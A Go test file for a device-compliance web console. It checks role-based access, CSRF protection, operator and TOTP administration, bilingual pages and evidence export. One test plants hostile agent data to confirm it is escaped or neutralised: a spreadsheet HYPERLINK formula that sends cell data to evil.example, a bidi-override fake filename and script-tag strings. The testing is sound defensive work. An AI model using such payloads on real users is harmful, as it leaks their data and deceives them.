package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/timestamppb"

	mamoriv1 "github.com/mamori-dev/mamori/proto/mamori/v1"
	"github.com/mamori-dev/mamori/server/auth"
	"github.com/mamori-dev/mamori/server/incident"
	"github.com/mamori-dev/mamori/server/store"
)

// step runs one incident-watcher step over the harness's store and clock:
// daily snapshot, search terms, incidents.
func (e *env) step(t *testing.T) {
	t.Helper()
	w, err := incident.New(e.h.Srv.Store(), incident.DefaultConfig(), nil, e.h.Clock.Now, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Step(context.Background()); err != nil {
		t.Fatal(err)
	}
}

func (e *env) period() string {
	d := e.h.Clock.Now().In(time.FixedZone("JST", 9*3600)).Format(time.DateOnly)
	return "from=" + d + "&to=" + d
}

func mediaEvent(kind string, attrs map[string]string) *mamoriv1.Event {
	return &mamoriv1.Event{Id: uuid.NewString(), Time: timestamppb.Now(), Control: "media", Kind: kind, Attributes: attrs}
}

// TestEvidenceRoles: every new page and action checks the role on the
// server, by URL and by form, and refused requests are audited.
func TestEvidenceRoles(t *testing.T) {
	e := start(t)
	admin := e.account(t, "admin-ito", "伊藤", auth.RoleAdmin)
	e.device(t, "pc-roles", failing("x", nil))
	e.step(t)
	incs, err := e.h.Srv.Store().Incidents(context.Background(), store.IncidentFilter{})
	if err != nil || len(incs) != 1 {
		t.Fatalf("incidents: %v %v", incs, err)
	}
	inc := fmt.Sprint(incs[0].ID)

	help, off, adm := e.browser(t, ""), e.browser(t, ""), e.browser(t, "")
	help.signIn(e.helpdesk)
	off.signIn(e.officer)
	adm.signIn(admin)
	for _, tc := range []struct {
		path            string
		help, off, admn int
	}{
		{"/incidents", 200, 200, 200},
		{"/incidents/" + inc, 200, 200, 200},
		{"/evidence", 403, 200, 200},
		{"/evidence/report?" + e.period(), 403, 200, 200},
		{"/evidence/export.csv?" + e.period(), 403, 200, 200},
		{"/operators", 403, 403, 200},
	} {
		for _, x := range []struct {
			b    *browser
			want int
		}{{help, tc.help}, {off, tc.off}, {adm, tc.admn}} {
			if p := x.b.get(tc.path); p.status != x.want {
				t.Errorf("GET %s as %s: %d, want %d", tc.path, x.b.lang, p.status, x.want)
			}
		}
	}
	// Forms: a helpdesk cannot close, an officer cannot create operators,
	// even with a valid CSRF token of their own session.
	hp := help.get("/incidents/" + inc)
	if strings.Contains(hp.body, `id="close-form"`) {
		t.Error("the close form is shown to the helpdesk")
	}
	if p := help.post("/incidents/"+inc+"/close", url.Values{"csrf": {csrfOf(t, hp)}, "note": {"x"}}); p.status != http.StatusForbidden {
		t.Errorf("helpdesk closes an incident: %d", p.status)
	}
	op := off.get("/fleet")
	if strings.Contains(op.body, `href="/operators"`) {
		t.Error("the operators link is shown to an officer")
	}
	if p := off.post("/operators", url.Values{"csrf": {csrfOf(t, op)}, "name": {"x"}, "login": {"evil"}, "role": {"admin"}, "password": {"0123456789abcdef"}}); p.status != http.StatusForbidden {
		t.Errorf("officer creates an operator: %d", p.status)
	}
	if _, _, err := e.h.Srv.Store().OperatorLogin(context.Background(), "evil"); err == nil {
		t.Error("the officer's form created an operator")
	}
	if !e.hasAudit(t, e.officer.opID, "console.denied", "POST /operators") || !e.hasAudit(t, e.helpdesk.opID, "console.denied", "POST /incidents/"+inc+"/close") {
		t.Error("refusals not audited")
	}
	// The helpdesk acknowledges, the officer closes; both audited with who and the note.
	if p := help.post("/incidents/"+inc+"/ack", url.Values{"csrf": {csrfOf(t, hp)}, "note": {"電話で確認中"}}); p.status != http.StatusSeeOther {
		t.Fatalf("acknowledge: %d %s", p.status, p.body)
	}
	cp := off.get("/incidents/" + inc)
	if p := off.post("/incidents/"+inc+"/close", url.Values{"csrf": {csrfOf(t, cp)}}); p.status != http.StatusBadRequest {
		t.Errorf("close without a note: %d", p.status)
	}
	if p := off.post("/incidents/"+inc+"/close", url.Values{"csrf": {csrfOf(t, cp)}, "note": {"USB 設定を修正"}}); p.status != http.StatusSeeOther {
		t.Fatalf("close: %d %s", p.status, p.body)
	}
	if p := off.post("/incidents/"+inc+"/close", url.Values{"csrf": {csrfOf(t, cp)}, "note": {"again"}}); p.status != http.StatusConflict {
		t.Errorf("close twice: %d", p.status)
	}
	if !e.hasAudit(t, e.helpdesk.opID, "incident.acknowledge", inc) || !e.hasAudit(t, e.officer.opID, "incident.close", inc) {
		t.Error("incident transitions not audited")
	}
	if !e.hasAudit(t, e.officer.opID, "evidence.export", "csv") || !e.hasAudit(t, e.officer.opID, "evidence.export", "html") {
		t.Error("evidence exports not audited")
	}
}

// TestEvidenceCSRF: the new forms refuse a missing, empty or another
// session's token.
func TestEvidenceCSRF(t *testing.T) {
	e := start(t)
	admin := e.account(t, "admin-ito", "伊藤", auth.RoleAdmin)
	e.device(t, "pc-csrf", failing("x", nil))
	e.step(t)
	a, other := e.browser(t, ""), e.browser(t, "")
	a.signIn(admin)
	other.signIn(e.officer)
	foreign := csrfOf(t, other.get("/fleet"))
	for _, path := range []string{"/operators", "/incidents/1/ack", "/incidents/1/close", "/operators/" + e.helpdesk.opID + "/disable", "/operators/" + e.helpdesk.opID + "/unlock"} {
		for name, tok := range map[string][]string{"missing": nil, "empty": {""}, "another session's": {foreign}} {
			f := url.Values{"note": {"n"}, "name": {"n"}, "login": {"csrf-" + name}, "role": {"helpdesk"}, "password": {"0123456789abcdef"}}
			if tok != nil {
				f["csrf"] = tok
			}
			if p := a.post(path, f); p.status != http.StatusForbidden {
				t.Errorf("POST %s with a %s token: %d", path, name, p.status)
			}
		}
	}
	// The first admin, the harness's test admin (servertest: the first
	// admin's token expires after a day), officer, helpdesk, admin.
	if ops, _ := e.h.Srv.Store().ListOperators(context.Background()); len(ops) != 5 {
		t.Errorf("operators after refused forms: %d", len(ops))
	}
}

// TestOperatorAdmin: create (TOTP shown once, with a QR code), the new
// operator signs in, lock-out cleared, disable ends its sessions.
func TestOperatorAdmin(t *testing.T) {
	e := start(t)
	admin := e.account(t, "admin-ito", "伊藤", auth.RoleAdmin)
	b := e.browser(t, "")
	b.signIn(admin)
	p := b.get("/operators")
	if p.status != 200 || !strings.Contains(p.body, "helpdesk-suzuki") {
		t.Fatalf("operators page: %d", p.status)
	}
	tok := csrfOf(t, p)
	if r := b.post("/operators", url.Values{"csrf": {tok}, "name": {"田中"}, "login": {"tanaka"}, "role": {"helpdesk"}, "password": {"short"}}); r.status != http.StatusBadRequest {
		t.Errorf("weak password: %d", r.status)
	}
	if r := b.post("/operators", url.Values{"csrf": {tok}, "name": {"田中"}, "login": {"helpdesk-suzuki"}, "role": {"helpdesk"}, "password": {password}}); r.status != http.StatusConflict {
		t.Errorf("taken login: %d", r.status)
	}
	r := b.post("/operators", url.Values{"csrf": {tok}, "name": {"田中"}, "login": {"tanaka"}, "role": {"officer"}, "password": {password}})
	if r.status != 200 {
		t.Fatalf("create: %d %s", r.status, r.body)
	}
	secret := regexp.MustCompile(`id="totp-secret">([A-Z2-7]+)<`).FindStringSubmatch(r.body)
	if secret == nil || !strings.Contains(r.body, "otpauth://totp/") || !strings.Contains(r.body, `<svg xmlns="http://www.w3.org/2000/svg" class="qr"`) {
		t.Fatalf("created page lacks the secret, the otpauth URI or the QR code:\n%s", r.body)
	}
	// A console operator has no API token (issue 14 item 7).
	if strings.Contains(r.body, "mmo_") || strings.Contains(r.body, "api-token") {
		t.Errorf("created page shows an API token:\n%s", r.body)
	}
	if !e.hasAudit(t, admin.opID, "operator.create", "") {
		t.Error("operator.create not audited")
	}
	// The new officer signs in with the password and a code from the secret.
	tanaka := account{login: "tanaka", totp: auth.Secret(secret[1])}
	_, o, err := e.h.Srv.Store().OperatorLogin(context.Background(), "tanaka")
	if err != nil {
		t.Fatal(err)
	}
	tanaka.opID = o.ID
	nb := e.browser(t, "")
	nb.signIn(tanaka)
	// Shown once: the operators page never shows it again.
	if p := b.get("/operators"); strings.Contains(p.body, secret[1]) {
		t.Error("the TOTP secret is shown again")
	}
	// Lock-out and its reset.
	for range 5 {
		b2 := e.browser(t, "")
		b2.signInWith("tanaka", "wrong password!!", "000000")
	}
	p = b.get("/operators")
	if !strings.Contains(p.body, "/operators/"+o.ID+"/unlock") {
		t.Fatal("locked operator has no unlock form")
	}
	if r := b.post("/operators/"+o.ID+"/unlock", url.Values{"csrf": {csrfOf(t, p)}}); r.status != http.StatusSeeOther {
		t.Fatalf("unlock: %d", r.status)
	}
	e.h.Clock.Advance(30 * time.Second)
	if r := e.browser(t, "").signInWith("tanaka", password, e.code(t, tanaka)); r.status != http.StatusSeeOther {
		t.Errorf("sign-in after unlock: %d", r.status)
	}
	// Disable: its open session ends, its sign-in fails.
	p = b.get("/operators")
	if r := b.post("/operators/"+admin.opID+"/disable", url.Values{"csrf": {csrfOf(t, p)}}); r.status != http.StatusBadRequest {
		t.Errorf("disable self: %d", r.status)
	}
	if r := b.post("/operators/"+o.ID+"/disable", url.Values{"csrf": {csrfOf(t, p)}}); r.status != http.StatusSeeOther {
		t.Fatalf("disable: %d", r.status)
	}
	if r := nb.get("/fleet"); r.status != http.StatusSeeOther || !strings.HasPrefix(r.loc, "/login") {
		t.Errorf("disabled operator's session still works: %d %s", r.status, r.loc)
	}
	if !e.hasAudit(t, admin.opID, "operator.disable", o.ID) || !e.hasAudit(t, admin.opID, "operator.unlock", o.ID) {
		t.Error("disable/unlock not audited")
	}
}

// Hostile agent data on every new page and in the CSV.
const (
	formula = `=HYPERLINK("http://evil.example/?"&A1,"x")`
	bidi    = "invoice\u202Etxt.exe"
)

func TestEvidenceHostileData(t *testing.T) {
	e := start(t)
	admin := e.account(t, "admin-ito", "伊藤", auth.RoleAdmin)
	host := formula + hostile + bidi
	// The server refuses such a hostname at enrolment and neutralises it in
	// reports (issue #14 item 10); a record stored before that, or written
	// by another path, still reaches the pages: the device enrols with a
	// plain name and the hostile one is written into the store directly.
	d := e.device(t, formula+hostile+"invoice", failing(hostile, nil),
		&mamoriv1.Event{Id: uuid.NewString(), Time: timestamppb.Now(), Control: "login-mfa", Kind: "mfa_lockout", Attributes: map[string]string{"user": "<script>u" + bidi}},
		mediaEvent("set_read_only", map[string]string{"serial": formula + "<script>", "device": hostile}),
		mediaEvent("policy_drift", map[string]string{"value": hostile}))
	sd, err := e.h.Srv.Store().GetDevice(context.Background(), d.ID)
	if err != nil {
		t.Fatal(err)
	}
	facts := proto.Clone(sd.Facts).(*mamoriv1.DeviceFacts)
	facts.Hostname = host
	if res, err := e.h.Srv.Store().IngestReports(context.Background(), []store.ReportInput{{DeviceID: d.ID, CertSerial: sd.CertSerial,
		ReceivedAt: e.h.Clock.Now(), Facts: facts, Verdict: store.VerdictNoncompliant, Reasons: sd.Reasons, KeepVerdict: true}}); err != nil || res[0].Err != nil {
		t.Fatalf("store the hostile hostname: %v %v", err, res)
	}
	e.step(t)
	b := e.browser(t, "")
	b.signIn(admin)
	pages := []string{"/fleet", "/incidents", "/incidents/1", "/incidents/2", "/incidents/3",
		"/search?kind=user&q=" + url.QueryEscape("<script>"), "/search?kind=usb&q=" + url.QueryEscape("=HYPER"),
		"/evidence", "/evidence/report?" + e.period(), "/operators"}
	for _, path := range pages {
		p := b.get(path)
		if p.status != http.StatusOK {
			t.Fatalf("%s: %d", path, p.status)
		}
		for _, raw := range []string{"<script>", "<img", "\u202E"} {
			if strings.Contains(strings.ReplaceAll(p.body, "&lt;img src=x onerror=alert", ""), raw) {
				t.Errorf("%s: raw %q in the page", path, raw)
			}
		}
	}
	for _, path := range []string{"/incidents", "/search?kind=user&q=" + url.QueryEscape("<script>"), "/evidence/report?" + e.period()} {
		if p := b.get(path); !strings.Contains(p.body, "&lt;script&gt;") || !strings.Contains(p.body, "[U&#43;202E]") {
			t.Errorf("%s: hostile text not shown escaped and visible:\n%s", path, p.body)
		}
	}
	if p := b.get("/evidence/report?" + e.period()); !regexp.MustCompile(`id="audit-actions"[\s\S]*<td>インシデントの発生</td><td class="num">3</td>`).MatchString(p.body) {
		t.Error("the report does not count the period's incident.open audit records")
	}
	// CSV: BOM, RFC 4180, formula cells neutralised, bidi visible.
	req, _ := http.NewRequest(http.MethodGet, e.h.ConsoleURL+"/evidence/export.csv?"+e.period(), nil)
	resp, err := b.c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var buf bytes.Buffer
	buf.ReadFrom(resp.Body)
	raw := buf.Bytes()
	if !bytes.HasPrefix(raw, []byte("\xef\xbb\xbf")) || !bytes.Contains(raw, []byte("\r\n")) {
		t.Fatalf("CSV without BOM or CRLF: %q", raw[:min(len(raw), 40)])
	}
	if ct := resp.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" || !strings.Contains(resp.Header.Get("Content-Disposition"), "attachment") {
		t.Errorf("CSV headers: %q %q", ct, resp.Header.Get("Content-Disposition"))
	}
	r := csv.NewReader(bytes.NewReader(raw[3:]))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV is not RFC 4180: %v", err)
	}
	found := false
	for _, rec := range recs[3:] {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("formula cell %q", cell)
			}
			if strings.ContainsRune(cell, '\u202E') {
				t.Errorf("bidi override in cell %q", cell)
			}
		}
		if strings.HasPrefix(rec[0], "'"+formula+hostile) && strings.Contains(rec[0], "[U+202E]") {
			found = true
		}
	}
	if !found {
		t.Errorf("the hostile hostname row is missing or not neutralised:\n%s", raw)
	}
	if !strings.HasPrefix(recs[1][2], "") || len(recs[1][2]) != 64 || recs[1][3] == "" {
		t.Errorf("CSV chain head line: %q", recs[1])
	}
}

// TestEvidencePagesInBothLanguages: every new page in ja and en, with no
// message missing from the catalog.
func TestEvidencePagesInBothLanguages(t *testing.T) {
	e := start(t)
	admin := e.account(t, "admin-ito", "伊藤", auth.RoleAdmin)
	e.device(t, "pc-lang", failing("x", nil), mediaEvent("usb_blocked", map[string]string{"serial": "S1"}))
	e.step(t)
	for _, tc := range []struct{ lang, want string }{{"ja", "監査証跡"}, {"en-US", "Audit evidence"}} {
		b := e.browser(t, tc.lang)
		b.signIn(admin)
		for _, path := range []string{"/fleet", "/incidents", "/incidents/1", "/search?kind=usb&q=S", "/evidence", "/evidence/report?" + e.period(), "/operators"} {
			p := b.get(path)
			if p.status != 200 {
				t.Fatalf("%s %s: %d", tc.lang, path, p.status)
			}
			if strings.Contains(p.body, "[console.") {
				t.Errorf("%s %s: a message is missing: %s", tc.lang, path, regexp.MustCompile(`\[console\.[^\]]*\]`).FindString(p.body))
			}
			if !strings.Contains(p.body, tc.want) {
				t.Errorf("%s %s: %q not in the page", tc.lang, path, tc.want)
			}
		}
	}
}

// TestFleetByControlGroupChartAndSearch: the fleet page counts by control
// and by group, draws the chart from the daily snapshot, and the wider
// search finds users, serials and USB serials.
func TestFleetByControlGroupChartAndSearch(t *testing.T) {
	e := start(t)
	e.device(t, "pc-a", failing("x", nil),
		&mamoriv1.Event{Id: uuid.NewString(), Time: timestamppb.Now(), Control: "login-mfa", Kind: "mfa_success", Attributes: map[string]string{"user": "yamada"}},
		mediaEvent("set_read_only", map[string]string{"serial": "4C530001"}))
	e.step(t)
	b := e.browser(t, "ja")
	b.signIn(e.helpdesk)
	p := b.get("/fleet")
	for _, want := range []string{`id="by-control"`, `id="by-group"`, `<svg xmlns="http://www.w3.org/2000/svg" id="chart"`, `class="seg-noncompliant"`} {
		if !strings.Contains(p.body, want) {
			t.Errorf("fleet page lacks %s", want)
		}
	}
	// The control by its name, linked to the terminals where it fails.
	if !regexp.MustCompile(`<td class="nowrap"><a href="/devices\?control=agent">エージェント自己診断</a></td><td>6\(7\)</td>(<td class="num">\d+</td>){3}<td class="num">1</td>`).MatchString(p.body) {
		t.Errorf("by-control row of agent (FAILED 1) not found")
	}
	for _, q := range []string{"kind=user&q=yama", "kind=usb&q=4C53"} {
		if p := b.get("/search?" + q); !strings.Contains(p.body, "pc-a") {
			t.Errorf("search %s: pc-a not found", q)
		}
	}
	if p := b.get("/search?kind=nope&q=x"); p.status != http.StatusBadRequest {
		t.Errorf("unknown search kind: %d", p.status)
	}
}

// TestEvidenceByGroup: the export can be limited to one device group.
func TestEvidenceByGroup(t *testing.T) {
	e := start(t)
	a := e.device(t, "kyoiku-pc-01", failing("x", nil))
	e.device(t, "shimin-pc-01", failing("x", nil))
	if _, err := e.h.Srv.Store().SetDeviceGroup(context.Background(), a.ID, "教育委員会"); err != nil {
		t.Fatal(err)
	}
	b := e.browser(t, "")
	b.signIn(e.officer)
	p := b.get("/evidence/report?" + e.period() + "&group=" + url.QueryEscape("教育委員会"))
	if p.status != 200 || !strings.Contains(p.body, "kyoiku-pc-01") || strings.Contains(p.body, "shimin-pc-01") || !strings.Contains(p.body, `id="scope">教育委員会`) {
		t.Errorf("report for one group: %d\n%s", p.status, p.body)
	}
	p = b.get("/evidence/export.csv?" + e.period())
	if !strings.Contains(p.body, "kyoiku-pc-01") || !strings.Contains(p.body, "shimin-pc-01") {
		t.Error("the whole-fleet CSV lacks a device")
	}
	if !e.hasAudit(t, e.officer.opID, "evidence.export", "html") {
		t.Error("export not audited")
	}
}

// TestIncidentSummaryLanguage: an incident's summary is stored as a
// message and read in the reader's language, its time in the console's
// zone; an incident stored before (text only) still shows its text.
func TestIncidentSummaryLanguage(t *testing.T) {
	e := start(t)
	d := e.device(t, "pc-summary", failing("x", nil))
	e.step(t)
	ctx := context.Background()
	st := e.h.Srv.Store()
	// An incident as stored before summaries were messages.
	judge := func(store.WatchBatch) ([]store.SearchTerm, []store.Signal, error) {
		return nil, []store.Signal{{Rule: incident.RuleMFALockout, DeviceID: d.ID, Episode: "old", At: e.h.Clock.Now(),
			Summary: "利用者 yamada の多要素認証ロックアウト / MFA lock-out of user yamada"}}, nil
	}
	if _, err := st.Watch(ctx, store.WatchParams{Now: e.h.Clock.Now(), Limit: 10, Margin: time.Minute}, judge); err != nil {
		t.Fatal(err)
	}
	incs, err := st.Incidents(ctx, store.IncidentFilter{})
	if err != nil || len(incs) != 2 {
		t.Fatalf("incidents: %v %v", incs, err)
	}
	var nc, old string
	for _, in := range incs {
		if in.Rule == incident.RuleNoncompliant {
			nc = fmt.Sprint(in.ID)
		} else {
			old = fmt.Sprint(in.ID)
		}
	}
	ja, en := e.browser(t, "ja"), e.browser(t, "en")
	ja.signIn(e.officer)
	en.signIn(e.officer)
	check := func(b *browser, path string, want, notWant []string) {
		t.Helper()
		p := b.get(path)
		for _, w := range want {
			if !strings.Contains(p.body, w) {
				t.Errorf("GET %s (%s) lacks %q", path, b.lang, w)
			}
		}
		for _, w := range notWant {
			if strings.Contains(p.body, w) {
				t.Errorf("GET %s (%s) shows %q", path, b.lang, w)
			}
		}
	}
	check(ja, "/incidents/"+nc, []string{"から非準拠", "JST"}, []string{"non-compliant since", "Non-compliant since"})
	check(en, "/incidents/"+nc, []string{"Non-compliant since"}, []string{"から非準拠", "非準拠になった日時"})
	check(ja, "/incidents", []string{"から非準拠", "多要素認証ロックアウト / MFA lock-out of user yamada"}, nil)
	check(en, "/incidents/"+old, []string{"利用者 yamada の多要素認証ロックアウト / MFA lock-out of user yamada"}, nil)
}
